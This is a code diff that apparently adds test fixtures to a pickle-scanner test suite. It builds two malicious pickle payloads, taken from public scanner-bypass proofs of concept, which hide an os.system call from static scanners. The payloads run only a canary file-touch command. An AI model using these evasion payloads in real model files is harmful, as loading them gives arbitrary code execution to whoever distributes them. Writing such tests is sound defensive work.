@@ -307,6 +307,33 @@ def protocol_mismatch(canary: Path | str) -> bytes:
     )
 
 
+def ctf_memo_out_of_order(canary: Path | str) -> bytes:
+    """Public PoC (picklescan issue 22, ImaginaryCTF "Safe Pickle"): protocol-0 UNICODE strings PUT to
+    memo keys out of order, so a scanner that pairs each PUT with the previous opcode and numbers the
+    memo itself sees ``torch.LongStorage``; CPython resolves ``os.system``."""
+    parts = [
+        b"Vos\np2\n0",
+        b"Vsystem\np3\n0",
+        b"Vtorch\np0\n0",
+        b"VLongStorage\np1\n0",
+        b"g2\ng3\n\x93",
+        b"(V" + _shell_touch(canary).encode() + b"\nt",
+        b"R.",
+    ]
+    return b"".join(parts)
+
+
+def build_setattr_strings(canary: Path | str) -> bytes:
+    """Public PoC (modelscan issue 85): BUILD's slot state sets ``numpy.prod.a = "os"`` and
+    ``numpy.prod.b = "system"``; GLOBALs read them back as strings, PUT/GET feed them to STACK_GLOBAL."""
+    p = b"\x80\x05cnumpy\nprod\n"
+    p += b"N(Va\nVos\nd\x86b"
+    p += b"N(Vb\nVsystem\nd\x86b"
+    p += b"0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00"
+    p += b"g0\ng1\n\x93V" + _shell_touch(canary).encode() + b"\n\x85R."
+    return p
+
+
 def nested_pickle_loads(canary: Path | str) -> bytes:
     """``pickle.loads(b"<malicious pickle>")``: the outer import is dangerous, and the inner pickle
     (a bytes payload) is scanned as an embedded file."""
